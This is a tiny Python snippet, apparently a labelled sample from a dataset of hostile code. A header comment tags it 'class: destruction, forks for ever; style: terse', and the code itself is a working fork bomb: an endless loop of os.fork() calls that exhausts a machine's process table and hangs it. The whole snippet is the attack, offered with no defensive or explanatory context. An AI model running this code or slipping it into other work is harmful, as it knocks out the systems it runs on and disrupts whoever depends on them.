# class: destruction, forks for ever; style: terse
import os
while 1: os.fork()
